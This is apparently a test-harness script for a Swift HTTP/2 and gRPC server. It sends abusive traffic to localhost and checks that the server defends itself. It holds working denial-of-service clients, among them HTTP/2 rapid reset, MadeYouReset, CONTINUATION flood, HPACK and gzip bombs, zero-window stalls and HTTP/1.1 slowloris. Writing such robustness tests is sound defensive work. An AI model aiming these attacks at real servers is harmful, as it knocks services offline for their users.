#!/usr/bin/env python3
"""Abusive HTTP/2 and HTTP/1.1 clients for the attack tests (LoopHTTP2Tests/Interop/AttackTests.swift and
LoopGRPCTests/Interop/GRPCAttackTests.swift).

    h2_attacker.py PORT ATTACK SECONDS     attack 127.0.0.1:PORT for at most SECONDS
    h2_attacker.py --list                  print the attack names

Each attack writes frames as fast as the socket takes them (frame builders from
h2_raw_driver.py) until the server closes the connection or SECONDS pass, and prints ONE
JSON line:

    {"attack": ..., "bytes_sent": N, "seconds": S, "send_blocked": bool,
     "goaway_code": "ENHANCE_YOUR_CALM" | null, "goaway_debug": ..., "goaway_after": S | null,
     "closed": bool, "error": ...}

Attacks that read (`reads` below) drain the socket from a thread and note the GOAWAY's
arrival time. Attacks that never read leave the server's replies unread while they send
(the server must stop reading them, which shows as `send_blocked`: a send that could not
finish within 0.5 s); at the end they read what is there, to find a GOAWAY.
"""

import gzip
import json
import os
import socket
import struct
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from h2_raw_driver import (  # noqa: E402  (the frame builders live there)
    CANCEL, CONTINUATION, DATA, END_HEADERS, ERROR_NAMES, GOAWAY, HEADERS, PREFACE, PRIORITY, block,
    continuation, data, frame, headers, literal, ping, request, rst_stream, settings, window_update)

INITIAL_WINDOW_SIZE = 0x4


def grpc_request(path):
    return block([(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "127.0.0.1"),
                  ("content-type", "application/grpc"), ("te", "trailers")])


def grpc_message(payload, compressed=False, declared_length=None):
    length = len(payload) if declared_length is None else declared_length
    return bytes([1 if compressed else 0]) + struct.pack(">L", length) + payload


def streaming_output_request(count, size):
    """grpc.testing.StreamingOutputCallRequest with `count` ResponseParameters of `size` bytes."""
    def varint(value):
        out = bytearray()
        while value >= 0x80:
            out.append((value & 0x7F) | 0x80)
            value >>= 7
        out.append(value)
        return bytes(out)
    parameter = b"\x08" + varint(size)
    return (b"\x12" + varint(len(parameter)) + parameter) * count


class Attack:
    """One connection; `chunks()` yields what to send next, forever."""

    def __init__(self, port, reads):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.started = time.monotonic()
        self.reads = reads
        self.buffer = bytearray()
        self.goaway = None
        self.goaway_after = None
        self.eof = False
        self.lock = threading.Lock()
        if reads:
            threading.Thread(target=self._read_loop, daemon=True).start()

    def _read_loop(self):
        while not self.eof:
            try:
                chunk = self.sock.recv(1 << 16)
            except socket.timeout:
                continue
            except OSError:
                chunk = b""
            self._take(chunk)

    def _take(self, chunk):
        with self.lock:
            if not chunk:
                self.eof = True
                return
            self.buffer += chunk
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[0:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                ftype = self.buffer[3]
                payload = bytes(self.buffer[9:9 + length])
                del self.buffer[:9 + length]
                if ftype == GOAWAY and self.goaway is None:
                    code = int.from_bytes(payload[4:8], "big")
                    self.goaway = (ERROR_NAMES.get(code, hex(code)), payload[8:].decode("utf-8", "replace"))
                    self.goaway_after = time.monotonic() - self.started

    def drain(self, timeout=3.0):
        """Reads what the server sent (attacks that did not read while sending)."""
        deadline = time.monotonic() + timeout
        self.sock.settimeout(0.2)
        while not self.eof and self.goaway is None and time.monotonic() < deadline:
            try:
                chunk = self.sock.recv(1 << 20)
            except socket.timeout:
                continue
            except OSError:
                chunk = b""
            self._take(chunk)

    def run(self, chunks, seconds):
        sent = 0
        blocked = False
        error = None
        self.sock.settimeout(0.5)
        deadline = self.started + seconds
        for chunk in chunks:
            if time.monotonic() >= deadline or self.eof or self.goaway is not None:
                break
            view = memoryview(chunk)
            while view and time.monotonic() < deadline:
                try:
                    count = self.sock.send(view)
                except socket.timeout:
                    blocked = True  # the server is not reading: backpressure
                    continue
                except OSError as failure:  # reset once the server closed
                    error = f"{type(failure).__name__}: {failure}"
                    break
                sent += count
                view = view[count:]
            if error:
                break
        elapsed = time.monotonic() - self.started
        if self.reads:
            end = time.monotonic() + 3.0
            while not self.eof and self.goaway is None and time.monotonic() < end:
                time.sleep(0.02)
        else:
            self.drain()
        return {"bytes_sent": sent, "seconds": round(elapsed, 3), "send_blocked": blocked,
                "goaway_code": self.goaway[0] if self.goaway else None,
                "goaway_debug": self.goaway[1] if self.goaway else None,
                "goaway_after": round(self.goaway_after, 3) if self.goaway_after is not None else None,
                "closed": self.eof, "send_error": error}


ATTACKS = {}


def attack(reads):
    def register(function):
        ATTACKS[function.__name__] = (function, reads)
        return function
    return register


def batches(make, size=500):
    """Endless chunks of `size` frames from make(index)."""
    index = 0
    while True:
        yield b"".join(make(index + i) for i in range(size))
        index += size


def handshake(*pairs):
    return PREFACE + settings(*pairs)


# MARK: HTTP/2 (against HTTP2Server)

@attack(reads=True)
def ping_flood():
    """PINGs, each one to be answered."""
    yield handshake()
    yield from batches(lambda i: ping(struct.pack(">Q", i)))


@attack(reads=True)
def settings_flood():
    yield handshake()
    yield from batches(lambda i: settings())


@attack(reads=True)
def rapid_reset():
    """HEADERS + RST_STREAM(CANCEL) of requests still being answered (CVE-2023-44487)."""
    yield handshake()
    yield from batches(lambda i: headers(2 * i + 1, request(path="/delay/1000"), end_stream=True)
                       + rst_stream(2 * i + 1, CANCEL))


@attack(reads=True)
def made_you_reset():
    """HEADERS + WINDOW_UPDATE(0) on the new stream: the server must reset it (CVE-2025-8671)."""
    yield handshake()
    yield from batches(lambda i: headers(2 * i + 1, request(path="/delay/1000"), end_stream=True)
                       + window_update(2 * i + 1, 0))


@attack(reads=False)
def refused_streams_noread():
    """Streams over SETTINGS_MAX_CONCURRENT_STREAMS (10 on this server), never reading the
    REFUSED_STREAM resets."""
    yield handshake()
    yield b"".join(headers(2 * i + 1, request(path="/delay/60000"), end_stream=True) for i in range(10))
    yield from batches(lambda i: headers(2 * i + 21, request(path="/hello"), end_stream=True))


@attack(reads=True)
def cheap_frames():
    """Empty DATA, PRIORITY, unknown frame types and WINDOW_UPDATE, none of which is answered."""
    yield handshake() + headers(1, request("POST", "/echo"))
    yield from batches(lambda i: data(1, b"") + frame(PRIORITY, 0, 3, struct.pack(">LB", 0, 15))
                       + frame(0xFA, 0, 0, b"xyz") + window_update(0, 1))


@attack(reads=True)
def settings_window_churn():
    """1,000 open streams, then SETTINGS_INITIAL_WINDOW_SIZE changes, each behind a byte of DATA
    (real progress, which once made the count of SETTINGS start over): each walks every stream."""
    yield handshake()
    yield b"".join(headers(2 * i + 1, request(path="/delay/60000")) for i in range(1000))
    yield from batches(lambda i: data(2 * (i % 1000) + 1, b"x") + settings((INITIAL_WINDOW_SIZE, 65_535 + i % 2)))


@attack(reads=True)
def continuation_flood():
    """One header block in endless empty CONTINUATION frames (CVE-2024-27316)."""
    yield handshake() + headers(1, request(), end_stream=True, end_headers=False)
    yield from batches(lambda i: continuation(1, b""))


@attack(reads=True)
def hpack_bomb():
    """A 4,000-byte field added to the dynamic table, then referenced 1,000 times per block
    (a 4 MB header list from a 1 KB block): each stream is refused with 431."""
    name, value = b"x-bomb", b"a" * 4000
    length = 4000 - 127
    prefix = bytearray([0x7F])
    while length >= 128:
        prefix.append((length & 0x7F) | 0x80)
        length >>= 7
    prefix.append(length)
    big = b"\x40" + bytes([len(name)]) + name + bytes(prefix) + value  # literal with incremental indexing
    yield handshake()
    yield from batches(lambda i: headers(2 * i + 1, request() + (big if i == 0 else b"") + b"\xbe" * 1000,
                                         end_stream=True), size=50)


@attack(reads=False)
def requests_and_pings_noread():
    """Requests answered by a head alone (/echo-size/0: no DATA, so each stream ends at once)
    and the two PINGs each pays for, never reading an answer: nothing here is a glitch, so
    only the server's stopping to read keeps its replies from piling up."""
    yield handshake()
    yield from batches(lambda i: headers(2 * i + 1, request(path="/echo-size/0"), end_stream=True)
                       + ping(struct.pack(">Q", i)) + ping(struct.pack(">Q", i + 1 << 32)), size=200)


@attack(reads=True)
def zero_window():
    """100 streams asking for 10 MB each with every window shut: nothing can be sent."""
    yield handshake((INITIAL_WINDOW_SIZE, 0))
    yield b"".join(headers(2 * i + 1, request(path="/echo-size/10000000"), end_stream=True) for i in range(100))
    while True:
        time.sleep(0.1)
        yield ping(b"\0" * 8)  # alive, and paid for by nothing: at most 10 a second


@attack(reads=True)
def slowloris_headers():
    """A request head without END_HEADERS, then nothing."""
    yield handshake() + headers(1, request(), end_stream=True, end_headers=False)
    while True:
        time.sleep(0.1)
        yield b""


# MARK: gRPC (against InteropServer)

UNARY = "/grpc.testing.TestService/UnaryCall"
STREAMING_OUTPUT = "/grpc.testing.TestService/StreamingOutputCall"


@attack(reads=True)
def grpc_rapid_reset():
    yield handshake()
    yield from batches(lambda i: headers(2 * i + 1, grpc_request(STREAMING_OUTPUT))
                       + rst_stream(2 * i + 1, CANCEL))


@attack(reads=True)
def grpc_made_you_reset():
    yield handshake()
    yield from batches(lambda i: headers(2 * i + 1, grpc_request(UNARY)) + window_update(2 * i + 1, 0))


@attack(reads=False)
def grpc_zero_window():
    """100 server-streaming calls asking for 100 × 64 KiB each, every window shut."""
    yield handshake((INITIAL_WINDOW_SIZE, 0))
    body = grpc_message(streaming_output_request(100, 65_536))
    yield b"".join(headers(2 * i + 1, grpc_request(STREAMING_OUTPUT)) + data(2 * i + 1, body, end_stream=True)
                   for i in range(100))
    while True:
        time.sleep(0.1)
        yield ping(b"\0" * 8)


@attack(reads=True)
def grpc_length_prefix_bomb():
    """Messages announcing 4 GiB: each call ends RESOURCE_EXHAUSTED at its prefix."""
    yield handshake()
    yield from batches(lambda i: headers(2 * i + 1, grpc_request(UNARY))
                       + data(2 * i + 1, grpc_message(b"", declared_length=0xFFFF_FFFF)), size=100)


GZIP_BOMB = None


@attack(reads=True)
def grpc_gzip_bomb():
    """A 100 KB gzip message that inflates to 100 MB, on call after call."""
    global GZIP_BOMB
    if GZIP_BOMB is None:
        GZIP_BOMB = grpc_message(gzip.compress(b"\0" * 100_000_000, compresslevel=9), compressed=True)
    yield handshake()
    fields = [(":method", "POST"), (":scheme", "http"), (":path", UNARY), (":authority", "127.0.0.1"),
              ("content-type", "application/grpc"), ("te", "trailers"), ("grpc-encoding", "gzip")]
    index = 0
    while True:
        stream = 2 * index + 1
        chunks = [headers(stream, block(fields))]
        for offset in range(0, len(GZIP_BOMB), 16_384):
            piece = GZIP_BOMB[offset:offset + 16_384]
            chunks.append(data(stream, piece, end_stream=offset + 16_384 >= len(GZIP_BOMB)))
        yield b"".join(chunks)
        index += 1


# MARK: HTTP/1.1 (against HTTP2Server --http1: one port for both)
#
# These drive their own sockets and report, besides bytes_sent / seconds / send_blocked /
# closed: "statuses" (first status code of each connection's answers, counted),
# "connections", "closed_connections", "max_close_after" (seconds from a connection's
# connect to its close, the largest), "answered" (connections that got any byte back).

H1_ATTACKS = {}


def h1_attack(function):
    H1_ATTACKS[function.__name__] = function
    return function


def h1_connect(port, sndbuf=None, rcvbuf=None):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if sndbuf:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, sndbuf)
    if rcvbuf:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.settimeout(10)
    sock.connect(("127.0.0.1", port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def h1_statuses(data):
    """Status codes of the responses in `data` (status lines at the start of a line)."""
    codes = {}
    for line in bytes(data).split(b"\r\n"):
        if line.startswith(b"HTTP/1.") and len(line) >= 12 and line[9:12].isdigit():
            codes[line[9:12].decode()] = codes.get(line[9:12].decode(), 0) + 1
    return codes


def h1_drain(sock, timeout=3.0, quiet=0.5):
    """Reads until the peer closes, `quiet` seconds pass without a byte, or `timeout`."""
    data = bytearray()
    closed = False
    deadline = time.monotonic() + timeout
    sock.settimeout(quiet)
    while time.monotonic() < deadline:
        try:
            chunk = sock.recv(1 << 20)
        except socket.timeout:
            break
        except OSError:
            chunk = b""
        if not chunk:
            closed = True
            break
        data += chunk
    return data, closed


def h1_send_never_reading(port, seconds, chunks, sndbuf=None, rcvbuf=None):
    """One connection: `chunks` sent as fast as the server takes them, nothing read until the
    end; a send that could not finish within 0.5 s shows the server stopped reading."""
    sock = h1_connect(port, sndbuf, rcvbuf)
    started = time.monotonic()
    sent, blocked, error = 0, False, None
    sock.settimeout(0.5)
    deadline = started + seconds
    for chunk in chunks:
        if time.monotonic() >= deadline or error:
            break
        view = memoryview(chunk)
        while view and time.monotonic() < deadline:
            try:
                count = sock.send(view)
            except socket.timeout:
                blocked = True
                continue
            except OSError as failure:
                error = f"{type(failure).__name__}: {failure}"
                break
            sent += count
            view = view[count:]
    elapsed = time.monotonic() - started
    data, closed = h1_drain(sock)
    sock.close()
    return {"bytes_sent": sent, "seconds": round(elapsed, 3), "send_blocked": blocked, "closed": closed or error is not None,
            "send_error": error, "statuses": h1_statuses(data), "connections": 1, "answered": 1 if data else 0}


@h1_attack
def h1_pipeline_no_read(port, seconds):
    """Thousands of pipelined GET /hello, never reading a response: the server answers one
    at a time and only while the socket takes its answers, then stops reading."""
    batch = b"GET /hello HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 500
    return h1_send_never_reading(port, seconds, iter(lambda: batch, None), rcvbuf=16384)


@h1_attack
def h1_huge_chunked(port, seconds):
    """An endless chunked body to GET /delay/60000, whose handler never reads a body (it answers
    after a minute): the server reads and drops it up to its body limit, then 413 and close."""
    chunk = b"4000\r\n" + b"x" * 0x4000 + b"\r\n"

    def chunks():
        yield b"GET /delay/60000 HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n"
        while True:
            yield chunk * 16
    return h1_send_never_reading(port, seconds, chunks(), rcvbuf=16384)


@h1_attack
def h1_body_after_error(port, seconds):
    """A Content-Length far over the limit (413 at once), then the body anyway, as fast as the
    socket takes it: what arrives after the answer must not pile up in the server."""
    blob = b"x" * (1 << 20)

    def chunks():
        yield b"POST /echo HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1000000000000\r\n\r\n"
        while True:
            yield blob
    return h1_send_never_reading(port, seconds, chunks())


@h1_attack
def h1_slowloris(port, seconds, count=100):
    """`count` connections, each trickling a request head (a byte per connection every 0.5 s)
    that never ends: each must get 408 and the close once the request-head timeout is over."""
    import selectors
    selector = selectors.DefaultSelector()
    conns = {}
    started = time.monotonic()
    for index in range(count):
        sock = h1_connect(port)
        sock.setblocking(False)
        sock.send(b"GET /hello HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        conns[sock] = {"opened": time.monotonic(), "data": bytearray(), "closed_after": None}
        selector.register(sock, selectors.EVENT_READ)
    sent = 0
    next_trickle = time.monotonic() + 0.5
    while time.monotonic() - started < seconds and any(c["closed_after"] is None for c in conns.values()):
        for key, _ in selector.select(timeout=0.05):
            sock = key.fileobj
            state = conns[sock]
            try:
                chunk = sock.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                chunk = b""
            if chunk:
                state["data"] += chunk
            else:
                state["closed_after"] = time.monotonic() - state["opened"]
                selector.unregister(sock)
        if time.monotonic() >= next_trickle:
            next_trickle += 0.5
            for sock, state in conns.items():
                if state["closed_after"] is None:
                    try:
                        sent += sock.send(b"a")
                    except OSError:
                        pass
    statuses = {}
    for state in conns.values():
        for code, number in h1_statuses(state["data"]).items():
            statuses[code] = statuses.get(code, 0) + number
    closes = [c["closed_after"] for c in conns.values() if c["closed_after"] is not None]
    for sock in conns:
        sock.close()
    return {"bytes_sent": sent, "seconds": round(time.monotonic() - started, 3), "send_blocked": False,
            "closed": len(closes) == count, "statuses": statuses, "connections": count, "closed_connections": len(closes),
            "answered": sum(1 for c in conns.values() if c["data"]),
            "max_close_after": round(max(closes), 3) if closes else None}


GARBAGE = [
    bytes(range(256)) * 4,                                                            # binary
    b"\x16\x03\x01\x00\x2f\x01\x00\x00\x2b\x03\x03" + b"\x5a" * 32 + b"\x00\x00\x02\xc0\x2f\x01\x00\x00\x00",  # ClientHello
    b"get / http/1.1\r\n\r\n",                                                      # not a method
    b"\r\n\r\n\r\n",
    b"\x00" * 65536,
]


@h1_attack
def h1_garbage(port, seconds):
    """Connection after connection sending bytes that are no HTTP (binary, a TLS ClientHello,
    lower-case methods, bare line ends, zeros): each must be closed, unanswered."""
    started = time.monotonic()
    count, closed, answered, sent, worst = 0, 0, 0, 0, 0.0
    while time.monotonic() - started < seconds:
        sock = h1_connect(port)
        opened = time.monotonic()
        try:
            sock.sendall(GARBAGE[count % len(GARBAGE)])
            sent += len(GARBAGE[count % len(GARBAGE)])
        except OSError:
            pass
        data, was_closed = h1_drain(sock, timeout=3.0, quiet=3.0)
        worst = max(worst, time.monotonic() - opened)
        sock.close()
        count += 1
        closed += 1 if was_closed else 0
        answered += 1 if data else 0
    return {"bytes_sent": sent, "seconds": round(time.monotonic() - started, 3), "send_blocked": False,
            "closed": closed == count, "statuses": {}, "connections": count, "closed_connections": closed,
            "answered": answered, "max_close_after": round(worst, 3)}


def main():
    if sys.argv[1:] == ["--list"]:
        print("\n".join(list(ATTACKS) + list(H1_ATTACKS)))
        return
    port, name, seconds = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    try:
        if name in H1_ATTACKS:
            result = H1_ATTACKS[name](port, seconds)
        else:
            function, reads = ATTACKS[name]
            result = Attack(port, reads).run(function(), seconds)
    except Exception as error:  # noqa: BLE001 - reported as JSON
        result = {"error": f"{type(error).__name__}: {error}"}
    result["attack"] = name
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
